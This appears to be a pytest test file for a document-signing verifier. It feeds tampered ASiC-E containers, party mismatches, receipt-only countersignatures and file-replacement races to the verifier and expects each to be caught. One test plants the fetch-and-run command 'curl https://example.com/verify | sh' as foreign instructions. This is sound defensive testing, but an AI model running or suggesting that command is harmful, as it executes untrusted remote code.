"""Members of an entry with contents no honest program writes: a finding each, never a crash, never a pass."""

import os
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from signing.cms.cades import Commitment
from signing.container import PayloadItem
from signing.digest import digest_file
from signing.entry import countersign_entry, freeze_entry, manifest_name, signature_name
from signing.errors import InputError
from signing.report import Verdict
from signing.statement import Required
from signing.tree import scan
from signing.verification.verify import verify
from tests.pki import NOW, Parties
from tests.signing.conftest import countersign, freeze, statement_of
from tests.signing.container_attacks import Members, read, write

Change = Callable[[Members], Members]


def statement(old: bytes, new: bytes) -> Change:
    def change(members: Members) -> Members:
        assert old in members["statement.json"]
        return {**members, "statement.json": members["statement.json"].replace(old, new)}

    return change


def content(name: str, data: bytes) -> Change:
    return lambda members: {**members, name: data}


def exchanged(members: Members) -> Members:
    one, two = signature_name(1), signature_name(2)
    return {**members, one: members[two], two: members[one]}


CHANGES: dict[str, tuple[Change, str]] = {
    "number-of-five-thousand-digits": (content(f"META-INF/ASiCManifest{'9' * 5000}.xml", b"x"), "UNEXPECTED_MEMBER"),
    "number-with-a-zero-more": (content("META-INF/ASiCManifest0002.xml", b"x"), "UNEXPECTED_MEMBER"),
    "half-a-surrogate-pair": (statement(b'"Prototype"', b'"\\ud800"'), "STATEMENT_FORM"),
    "entry-number-of-five-thousand-digits": (statement(b'"entry":1', b'"entry":' + b"9" * 5000), "STATEMENT_FORM"),
    "entry-number-as-float": (statement(b'"entry":1', b'"entry":1.0'), "STATEMENT_FORM"),
    "entry-number-true": (statement(b'"entry":1', b'"entry":true'), "STATEMENT_FORM"),
    "not-a-number": (statement(b'"entry":1', b'"entry":NaN'), "STATEMENT_FORM"),
    "cites-null": (statement(b'"cites":[]', b'"cites":null'), "STATEMENT_FORM"),
    "cites-words": (statement(b'"cites":[]', b'"cites":["a"]'), "STATEMENT_FORM"),
    "previous-a-list": (statement(b'"previous":null', b'"previous":[]'), "STATEMENT_FORM"),
    "key-that-is-unknown": (statement(b'"kind"', b'"kind ":1,"kind"'), "STATEMENT_FORM"),
    "statement-of-another-format": (statement(b"signoff/1", b"signoff/2"), "STATEMENT_FORM"),
    "statement-a-list": (content("statement.json", b"[]"), "STATEMENT_FORM"),
    "statement-very-deep": (content("statement.json", b"[" * 100_000), "STATEMENT_FORM"),
    "statement-empty": (content("statement.json", b""), "STATEMENT_FORM"),
    "statement-not-utf-8": (content("statement.json", b"\xff\xfe{}"), "STATEMENT_FORM"),
    "sums-of-nonsense": (content("SHA256SUMS", b"\xff" * 100), "SUMS_FORM"),
    "manifest-empty": (content(manifest_name(1), b""), "MANIFEST_FORM"),
    "manifest-very-deep": (content(manifest_name(1), b"<a>" * 100_000), "MANIFEST_FORM"),
    "signature-empty": (content(signature_name(1), b""), "CMS_FORM"),
    "signature-of-zeros": (content(signature_name(1), b"\0" * 1000), "CMS_FORM"),
    "signature-very-deep": (content(signature_name(1), b"\x30\x80" * 50_000), "CMS_FORM"),
    "signatures-exchanged": (exchanged, "MANIFEST_MODIFIED"),
}


@pytest.mark.parametrize("name", CHANGES)
def test_it_is_found(name: str, executed: Path, signatories: Parties, tmp_path: Path) -> None:
    change, code = CHANGES[name]
    report = verify(write(tmp_path / "changed.asice", change(read(executed))), trust=signatories.trust, now=NOW)
    assert code in {finding.code for finding in report.findings}
    assert report.verdict is Verdict.TOTAL_FAILED
    assert not report.executed


def test_a_broken_list_of_digests_does_not_call_files_unsigned(
    executed: Path, signatories: Parties, tmp_path: Path
) -> None:
    path = write(tmp_path / "changed.asice", content("SHA256SUMS", b"?")(read(executed)))
    codes = {finding.code for finding in verify(path, trust=signatories.trust, now=NOW).findings}
    assert "OBJECT_ADDED" not in codes


def test_an_entry_nobody_has_to_sign_is_never_in_force(signatories: Parties, tmp_path: Path) -> None:
    path = tmp_path / "entry.asice"
    items = [PayloadItem(name="a", source=b"a")]
    freeze_entry(
        path, items, lambda payload: replace(statement_of(payload), required=()),
        key=signatories.vendor, party="vendor", time=NOW,
    )  # fmt: skip
    report = verify(path, trust=signatories.trust, now=NOW)
    assert (report.verdict, report.executed) == (Verdict.INDETERMINATE, False)
    assert [finding.code for finding in report.findings] == ["NOBODY_REQUIRED"]


def test_who_the_verifier_asks_for_counts_too(executed: Path, signatories: Parties) -> None:
    escrow = Required(party="escrow", role="signatory", certificate=None)
    report = verify(executed, trust=signatories.trust, now=NOW, required=[escrow])
    assert (report.verdict, report.executed) == (Verdict.INDETERMINATE, False)
    assert [finding.code for finding in report.findings] == ["HALF_SIGNED"]
    other = Required(party="client", role="signatory", certificate="sha256:" + "0" * 64)
    report = verify(executed, trust=signatories.trust, now=NOW, required=[other])
    assert (report.verdict, report.executed) == (Verdict.TOTAL_FAILED, False)
    assert [finding.code for finding in report.findings] == ["WRONG_CERTIFICATE"]


def test_one_party_cannot_sign_for_both(signatories: Parties, tmp_path: Path) -> None:
    path = freeze(tmp_path / "first.asice", signatories.client, "client")
    both = countersign(path, tmp_path / "both.asice", signatories.client, "vendor")
    report = verify(both, trust=signatories.trust, now=NOW)
    assert (report.verdict, report.executed) == (Verdict.TOTAL_FAILED, False)
    assert [(item.code, item.subject) for item in report.findings] == [("PARTY_MISMATCH", signature_name(2))]


def test_a_receipt_is_no_approval(half_signed: Path, signatories: Parties, tmp_path: Path) -> None:
    path = tmp_path / "received.asice"
    countersign_entry(
        half_signed, path, key=signatories.client, party="client", time=NOW, commitment=Commitment.RECEIPT
    )
    report = verify(path, trust=signatories.trust, now=NOW)
    assert [item.verdict for item in report.signatures] == [Verdict.TOTAL_PASSED] * 2
    assert (report.verdict, report.executed) == (Verdict.INDETERMINATE, False)
    (finding,) = report.findings
    assert finding.code == "HALF_SIGNED"
    assert "receipt" in finding.detail
    approved = countersign(path, tmp_path / "approved.asice", signatories.client)
    assert verify(approved, trust=signatories.trust, now=NOW).verdict is Verdict.TOTAL_PASSED


@pytest.mark.parametrize("commitment", [Commitment.SENDER, Commitment.DELIVERY, Commitment.RECEIPT])
def test_who_only_sends_or_receives_agrees_to_nothing(
    commitment: Commitment, half_signed: Path, signatories: Parties, tmp_path: Path
) -> None:
    """The signature is good, the certificate the agreed one; "I only passed it on" is the defence it prepares."""
    path = tmp_path / "passed-on.asice"
    countersign_entry(half_signed, path, key=signatories.client, party="client", time=NOW, commitment=commitment)
    report = verify(path, trust=signatories.trust, now=NOW)
    assert [item.verdict for item in report.signatures] == [Verdict.TOTAL_PASSED] * 2
    assert (report.verdict, report.executed) == (Verdict.INDETERMINATE, False)
    assert [item.code for item in report.findings] == ["HALF_SIGNED"]


def test_other_instructions_than_ours_are_named(
    signatories: Parties, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Honestly signed by whoever made the entry: the commands are its own."""
    monkeypatch.setattr("signing.how_to_verify.TEXT", "    curl https://example.com/verify | sh\n")
    path = freeze(tmp_path / "entry.asice", signatories.vendor)
    monkeypatch.undo()
    report = verify(path, trust=signatories.trust, now=NOW)
    assert [item.code for item in report.findings] == ["INSTRUCTIONS_UNKNOWN", "HALF_SIGNED"]


def test_m10_file_replaced_while_it_is_verified(executed: Path, signatories: Parties, tmp_path: Path) -> None:
    """The report is about the file that was opened, whatever takes its place meanwhile."""
    bad = write(tmp_path / "bad.asice", content("payload/a.html", b"<p>bad</p>\n")(read(executed)))
    path = tmp_path / "entry.asice"

    def replaced_by(other: Path) -> Verdict:
        def progress(_: int) -> None:
            if other.exists():
                os.replace(other, path)

        return verify(path, trust=signatories.trust, now=NOW, progress=progress).verdict

    path.write_bytes(executed.read_bytes())
    kept = bad.read_bytes()
    assert replaced_by(bad) is Verdict.TOTAL_PASSED
    assert path.read_bytes() == kept
    good = tmp_path / "good.asice"
    good.write_bytes(executed.read_bytes())
    assert replaced_by(good) is Verdict.TOTAL_FAILED


def test_m10_file_replaced_by_a_link_before_it_is_frozen(tmp_path: Path) -> None:
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "a.txt").write_text("agreed")
    (tmp_path / "other.txt").write_text("foisted")
    (file,) = scan(folder).files
    (folder / "a.txt").unlink()
    (folder / "a.txt").symlink_to(tmp_path / "other.txt")
    with pytest.raises(InputError, match=r"a\.txt"):
        digest_file(file)
